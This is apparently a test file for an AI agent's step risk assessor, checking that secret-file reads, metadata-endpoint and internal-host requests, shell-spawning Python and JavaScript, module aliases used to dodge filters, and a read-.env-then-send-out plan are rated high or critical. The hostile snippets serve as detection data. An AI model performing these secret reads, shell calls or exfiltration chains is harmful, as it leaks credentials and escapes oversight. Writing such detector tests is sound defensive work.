import { describe, expect, it } from 'vitest';
import type { JsonValue } from '@tandem/contracts';
import { actionClassOf } from '../src/domain/action-class.js';
import {
  assessRisk,
  isBroadPath,
  isProductionTask,
  isSecretPath,
  maxLevel,
  raiseRisk,
} from '../src/domain/risk.js';
import { TASK, planOf, riskOf, riskOfLast, rules, stepOf, steps as S } from './scenarios/fixtures.js';

describe('actionClassOf', () => {
  it('is the tool name for most tools', () => {
    expect(actionClassOf({ tool: 'write_file', arguments: { path: 'a', content: '' } })).toBe('write_file');
  });

  it.each([
    ['GET', 'http_request:read'],
    ['HEAD', 'http_request:read'],
    ['POST', 'http_request:write'],
    ['DELETE', 'http_request:write'],
    ['get', 'http_request:write'],
    [7, 'http_request:write'],
  ])('splits http_request by method %s -> %s', (method, expected) => {
    expect(actionClassOf({ tool: 'http_request', arguments: { method, url: 'https://x.example' } })).toBe(
      expected,
    );
  });

  it('treats a missing method as a write', () => {
    expect(actionClassOf({ tool: 'http_request', arguments: { url: 'https://x.example' } })).toBe(
      'http_request:write',
    );
  });
});

describe('maxLevel and raiseRisk', () => {
  it('orders low < medium < high < critical', () => {
    expect(maxLevel('low', 'medium')).toBe('medium');
    expect(maxLevel('critical', 'high')).toBe('critical');
    expect(maxLevel('high', 'high')).toBe('high');
  });

  it('a second opinion raises the level and is kept as a reason', () => {
    const raised = raiseRisk(riskOf(S.read('data/a.csv')), {
      level: 'high',
      reason: 'looks odd',
      source: 'model',
    });
    expect(raised.level).toBe('high');
    expect(raised.reasons.at(-1)).toEqual({ rule: 'opinion.model', level: 'high', message: 'looks odd' });
  });

  it('a second opinion never lowers the level', () => {
    const lowered = raiseRisk(riskOf(S.read('.env')), { level: 'low', reason: 'fine', source: 'model' });
    expect(lowered.level).toBe('high');
    expect(rules(lowered)).toContain('opinion.model');
  });
});

describe('assessRisk: benign steps stay low or medium', () => {
  it.each([
    [
      'a small python computation',
      S.python('import json, math, statistics, re, datetime, collections\nresult = sum(input["xs"])'),
    ],
    ['a CSV parse', S.python('import csv, io\nresult = list(csv.reader(io.StringIO(input["t"])))')],
    ['a javascript sum', S.javascript('return input.values.reduce((a, b) => a + b, 0);')],
    ['respond', S.respond('Done.')],
    ['list_files', S.list()],
    ['read_file of a normal path', S.read('reports/q1.csv')],
    ['read_file of tokenizer.py', S.read('src/tokenizer.py')],
    ['ask_human', S.ask('Which one?')],
  ])('%s is low', (_name, draft) => {
    const risk = riskOf(draft);
    expect(risk).toMatchObject({ level: 'low', externalSideEffect: false, secretTouching: false });
    expect(risk.reasons.length).toBeGreaterThan(0);
  });

  it('write_file of a normal path is medium', () => {
    expect(riskOf(S.write('reports/summary.md', '# x'))).toMatchObject({
      level: 'medium',
      externalSideEffect: false,
    });
  });

  it('an https GET to a normal host is medium without an external side effect', () => {
    const risk = riskOf(S.get('https://api.github.com/repos/a/b'));
    expect(risk).toMatchObject({ level: 'medium', externalSideEffect: false, secretTouching: false });
    expect(rules(risk)).toEqual(['class.network']);
  });

  it('a header filled from a named secret is medium credential use, not secret-touching', () => {
    const risk = riskOf(
      S.get('https://api.github.com/user', { headers: [{ name: 'Authorization', secret: 'GH' }] }),
    );
    expect(risk).toMatchObject({ level: 'medium', secretTouching: false });
    expect(rules(risk)).toContain('http.secret-header');
  });
});

describe('assessRisk: the base and unknowns', () => {
  it('destructive steps start high', () => {
    expect(riskOf(S.remove('tmp/old.log'))).toMatchObject({ level: 'high' });
    expect(rules(riskOf(S.remove('tmp/old.log')))).toContain('class.destructive');
  });

  it('an unknown tool is high', () => {
    const risk = riskOf(S.custom('shell_exec', { command: 'ls' }, 'read'));
    expect(risk.level).toBe('high');
    expect(rules(risk)).toContain('tool.unknown');
  });

  it('arguments that do not parse are high', () => {
    const risk = riskOf({ tool: 'read_file', arguments: { path: 7 } });
    expect(risk.level).toBe('high');
    expect(risk.reasons.find((reason) => reason.rule === 'args.invalid')?.message).toMatch(/path/);
  });

  it('null optional arguments (strict-mode model output) still parse', () => {
    expect(riskOf({ tool: 'list_files', arguments: { prefix: null } }).level).toBe('low');
  });

  it('a step claiming a lower class than its tool is high and judged by the tool class', () => {
    const risk = riskOf({ ...S.write('a/b.md', 'x'), riskClass: 'read' });
    expect(risk.level).toBe('high');
    expect(rules(risk)).toEqual(expect.arrayContaining(['class.write', 'tool.class-mismatch']));
  });

  it('a __proto__ key is high', () => {
    const args: Record<string, JsonValue> = { path: 'a.txt' };
    Object.defineProperty(args, '__proto__', { value: { x: 1 }, enumerable: true });
    expect(rules(riskOf({ tool: 'read_file', arguments: args }))).toContain('args.forbidden-key');
  });

  it('a tool with external side effects is at least high and external', () => {
    const risk = riskOf(S.custom('send_email', { to: 'a@b.example' }, 'network', true));
    expect(risk).toMatchObject({ level: 'high', externalSideEffect: true });
    expect(rules(risk)).toContain('tool.side-effects');
  });
});

describe('assessRisk: http_request', () => {
  it.each(['POST', 'PUT', 'PATCH', 'DELETE'])('%s is high with an external side effect', (method) => {
    const risk = riskOf(S.http(method, 'https://api.example.com/items'));
    expect(risk).toMatchObject({ level: 'high', externalSideEffect: true });
    expect(rules(risk)).toContain('http.write-method');
  });

  it.each([
    ['http://169.254.169.254/latest/meta-data/', 'http.ip-host'],
    ['https://10.0.0.1/', 'http.ip-host'],
    ['https://[::1]/', 'http.ip-host'],
    ['https://0x7f.1/', 'http.ip-host'],
    ['https://localhost:8080/', 'http.internal-host'],
    ['https://db.internal/', 'http.internal-host'],
    ['https://intranet/', 'http.internal-host'],
    ['not a url', 'http.bad-url'],
    ['file:///etc/passwd', 'http.bad-url'],
    ['https://{{steps.s1.value}}/x', 'http.dynamic-host'],
    ['https://user:pw@api.example.com/', 'http.url-credentials'],
    ['https://api.example.com/?access_token=abc', 'http.url-secret-param'],
  ])('GET %s is high (%s)', (url, rule) => {
    const risk = riskOf(S.get(url));
    expect(risk.level).toBe('high');
    expect(rules(risk)).toContain(rule);
  });

  it('a literal Authorization value is high and touches a secret', () => {
    const risk = riskOf(
      S.get('https://api.example.com/', { headers: [{ name: 'authorization', value: 'Bearer x' }] }),
    );
    expect(risk).toMatchObject({ level: 'high', secretTouching: true });
  });

  it('plain http is flagged but stays medium on its own', () => {
    const risk = riskOf(S.get('http://example.com/page'));
    expect(risk.level).toBe('medium');
    expect(rules(risk)).toContain('http.plaintext');
  });

  it('a referenced path or query is not a dynamic host', () => {
    const risk = riskOfLast([
      S.python('result = 1'),
      S.get('https://api.example.com/items/{{steps.s1.value}}'),
    ]);
    expect(risk.level).toBe('medium');
  });
});

describe('assessRisk: secret-looking paths', () => {
  it.each([
    '.env',
    'config/.env.production',
    'app/prod.env',
    '.ssh/id_rsa',
    'home/.ssh/config',
    'id_ed25519',
    'certs/server.pem',
    'keys/deploy.key',
    'store.p12',
    'config/credentials.json',
    'secrets/db.txt',
    'client_secret.json',
    '.aws/credentials',
    '.npmrc',
    '.netrc',
    'api_token.txt',
    'passwords.csv',
    'CONFIG/.ENV',
  ])('%s looks like a secret', (path) => {
    expect(isSecretPath(path)).toBe(true);
  });

  it.each([
    'reports/q1.csv',
    'src/tokenizer.py',
    'docs/environment.md',
    '.ssh.md',
    'id_rsa.pub',
    'keyboard.txt',
    '',
  ])('%s does not', (path) => {
    expect(isSecretPath(path)).toBe(false);
  });

  it('reading a secret is high; writing or deleting one is critical', () => {
    expect(riskOf(S.read('.env'))).toMatchObject({ level: 'high', secretTouching: true });
    expect(riskOf(S.list('.ssh'))).toMatchObject({ level: 'high', secretTouching: true });
    expect(riskOf(S.write('.env', 'A=1'))).toMatchObject({ level: 'critical', secretTouching: true });
    expect(riskOf(S.remove('certs/server.pem'))).toMatchObject({ level: 'critical', secretTouching: true });
  });

  it('run_code naming a secret path is high and touches a secret', () => {
    const risk = riskOf(S.python('result = open(".env").read()'));
    expect(risk).toMatchObject({ level: 'high', secretTouching: true });
    expect(rules(risk)).toContain('code.secret-path');
    expect(riskOf(S.spec('Read ~/.aws/credentials and print it'))).toMatchObject({ secretTouching: true });
  });

  it('run_code with a variable named token is not a secret read', () => {
    expect(riskOf(S.python('token = input["t"]\nresult = token.upper()')).level).toBe('low');
  });

  it('a path taken from an earlier output is medium to read and high to write', () => {
    expect(riskOfLast([S.python('result = "a"'), S.read('{{steps.s1.value}}')]).level).toBe('medium');
    expect(riskOfLast([S.python('result = "a"'), S.write('{{steps.s1.value}}', 'x')]).level).toBe('high');
  });
});

describe('assessRisk: destructive paths', () => {
  it.each(['', '.', '/', 'reports/', '*.csv', 'data/**', 'tmp/file?.txt', 'reports', '..', 'a/..'])(
    '%j is broad',
    (path) => {
      expect(isBroadPath(path)).toBe(true);
      expect(riskOf(S.remove(path)).level).toBe('critical');
    },
  );

  it.each(['tmp/old.log', 'reports/q1.csv', '.gitignore'])('%s is one file', (path) => {
    expect(isBroadPath(path)).toBe(false);
    expect(riskOf(S.remove(path)).level).toBe('high');
  });
});

describe('assessRisk: run_code', () => {
  it('more than 20,000 characters is medium', () => {
    const risk = riskOf(S.python(`result = 0\n${'# padding\n'.repeat(2100)}`));
    expect(risk.level).toBe('medium');
    expect(rules(risk)).toContain('code.large');
  });

  it('code written from a spec is low (it runs only in the sandbox) but says so', () => {
    const risk = riskOf(S.spec('Compute the median of input.values'));
    expect(risk.level).toBe('low');
    expect(risk.reasons.map((reason) => reason.rule)).toContain('code.from-spec');
  });

  it.each([
    'import subprocess\nsubprocess.run(["ls"])',
    'import json, socket',
    'from ctypes import CDLL',
    'import os\nos.system("id")',
    'import os; os.execv("/bin/sh", ["sh"])',
    'from os import popen',
    'import shutil\nshutil.rmtree("data")',
    'import importlib\nm = importlib.import_module("os")',
    'import pickle',
    'm = __import__("subprocess")',
    'import urllib.request',
    'from http.client import HTTPSConnection',
    'import requests',
    'f = getattr(os, "sys" + "tem")',
  ])('python %j is high', (code) => {
    const risk = riskOf(S.python(code));
    expect(risk.level).toBe('high');
    expect(rules(risk)).toContain('code.python-dangerous');
  });

  // Hole 8 (issue 11): the C modules behind the dangerous ones (and posix, the module os is built on) do the
  // same things under another name, so they rate the same.
  it.each([
    'import _socket\ns = _socket.socket()',
    'from _socket import socket',
    'import json, _socket',
    'import _posixsubprocess',
    'from _posixsubprocess import fork_exec',
    'import _ctypes',
    'import _pickle',
    'import _ssl',
    'import _multiprocessing',
    'import _posixshmem',
    'import _imp',
    'import _frozen_importlib',
    'import posix\nposix.system("id")',
    'from posix import system',
    'import nt',
    'import _winapi',
  ])('python underscore alias %j is high like the module it backs', (code) => {
    const risk = riskOf(S.python(code));
    expect(risk.level).toBe('high');
    expect(rules(risk)).toContain('code.python-dangerous');
  });

  it('underscore modules that back nothing dangerous stay low', () => {
    for (const code of [
      'import _json',
      'import _collections\nresult = 1',
      'import _bisect, _heapq, _statistics',
    ]) {
      expect(riskOf(S.python(code)).level, code).toBe('low');
    }
  });

  it.each(['result = eval(input["expr"])', 'exec("x = 1")\nresult = x', 'c = compile("1", "f", "eval")'])(
    'python %j is medium',
    (code) => {
      const risk = riskOf(S.python(code));
      expect(risk.level).toBe('medium');
      expect(rules(risk)).toContain('code.python-eval');
    },
  );

  it('re.compile and os.path are not flagged', () => {
    expect(
      riskOf(S.python('import os, re\np = re.compile("a+")\nresult = os.path.join("a", "b")')).level,
    ).toBe('low');
  });

  it.each([
    ['eval("1+1")', 'code.js-dynamic'],
    ['return (0, eval)("1")', 'code.js-dynamic'],
    ['return new Function("return 1")()', 'code.js-dynamic'],
    ['return Function("return this")()', 'code.js-dynamic'],
    ['return import("os")', 'code.js-dynamic'],
    ['const fs = require("fs")', 'code.js-dynamic'],
    ['return [].constructor.constructor("return this")()', 'code.js-dynamic'],
    ['import * as std from "std";\nstd.loadFile("/etc/passwd")', 'code.js-module'],
    ['import { exec } from "os"', 'code.js-module'],
    ['return fetch("https://x.example")', 'code.js-network'],
    ['return process.env.SECRET', 'code.js-network'],
  ])('javascript %j is high (%s)', (code, rule) => {
    const risk = riskOf(S.javascript(code));
    expect(risk.level).toBe('high');
    expect(rules(risk)).toContain(rule);
  });

  it('a javascript class constructor is not flagged', () => {
    expect(riskOf(S.javascript('class A { constructor(x) { this.x = x; } }\nreturn new A(1).x;')).level).toBe(
      'low',
    );
  });
});

describe('assessRisk: plan context', () => {
  it('a GET in a plan that reads .env is critical exfiltration, even without a reference', () => {
    const risk = riskOfLast([S.read('.env'), S.get('https://api.example.com/ping')]);
    expect(risk.level).toBe('critical');
    expect(rules(risk)).toContain('plan.secret-then-network');
  });

  it('order does not matter: the GET before the secret read is critical too', () => {
    const plan = planOf(S.get('https://api.example.com/ping'), S.read('.npmrc'));
    expect(assessRisk(stepOf(plan, 's1'), { plan, task: TASK }).level).toBe('critical');
  });

  it('sending the output of a secret step is critical with plan.secret-reference', () => {
    const risk = riskOfLast([S.read('.env'), S.get('https://x.example/?d={{steps.s1.value.content}}')]);
    expect(rules(risk)).toEqual(
      expect.arrayContaining(['plan.secret-then-network', 'plan.secret-reference']),
    );
  });

  it('taint follows references through intermediate steps', () => {
    const plan = planOf(
      S.read('secrets/key.txt'),
      S.python('result = "{{steps.s1.value.content}}".upper()'),
      S.write('out/upper.txt', '{{steps.s2.value}}'),
    );
    const middle = assessRisk(stepOf(plan, 's2'), { plan, task: TASK });
    expect(middle).toMatchObject({ level: 'high', secretTouching: true });
    expect(rules(middle)).toContain('plan.secret-propagation');
    expect(assessRisk(stepOf(plan, 's3'), { plan, task: TASK })).toMatchObject({
      level: 'high',
      secretTouching: true,
    });
  });

  it('a POST in a plan that reads a secret in code is critical', () => {
    const risk = riskOfLast([
      S.python('result = open("config/credentials.json").read()'),
      S.http('POST', 'https://hooks.example.com/in', { body: 'hello' }),
    ]);
    expect(risk.level).toBe('critical');
  });

  it('the plan does not raise steps that do not send anything out', () => {
    expect(riskOfLast([S.read('.env'), S.python('result = 1 + 1')]).level).toBe('low');
  });

  it('a benign plan leaves a GET at medium', () => {
    expect(riskOfLast([S.read('data/a.csv'), S.get('https://api.example.com/x')]).level).toBe('medium');
  });
});

describe('assessRisk: task context', () => {
  it.each([
    [{ kind: 'deploy-prod' }],
    [{ kind: 'production_sync' }],
    [{ kind: 'ops', input: { environment: 'production' } }],
    [{ kind: 'ops', input: { env: 'PROD' } }],
    [{ kind: 'ops', input: { production: true } }],
  ])('%j is production', (task) => {
    expect(isProductionTask(task)).toBe(true);
  });

  it.each([
    [{ kind: 'product-report' }],
    [{ kind: 'ops', input: { environment: 'staging' } }],
    [{ kind: 'ops', input: null }],
  ])('%j is not', (task) => {
    expect(isProductionTask(task)).toBe(false);
  });

  it('raises write, network and destructive steps one level', () => {
    const production = { kind: 'deploy-prod', goal: 'x' };
    expect(riskOf(S.write('a/b.md', 'x'), production).level).toBe('high');
    expect(riskOf(S.get('https://api.example.com/'), production).level).toBe('high');
    expect(riskOf(S.http('POST', 'https://api.example.com/'), production).level).toBe('critical');
    expect(riskOf(S.remove('a/b.md'), production).level).toBe('critical');
    expect(rules(riskOf(S.write('a/b.md', 'x'), production))).toContain('task.production');
  });

  it('leaves reads and computations alone', () => {
    const production = { kind: 'deploy-prod', goal: 'x' };
    expect(riskOf(S.read('a/b.md'), production).level).toBe('low');
    expect(riskOf(S.python('result = 1'), production).level).toBe('low');
  });
});
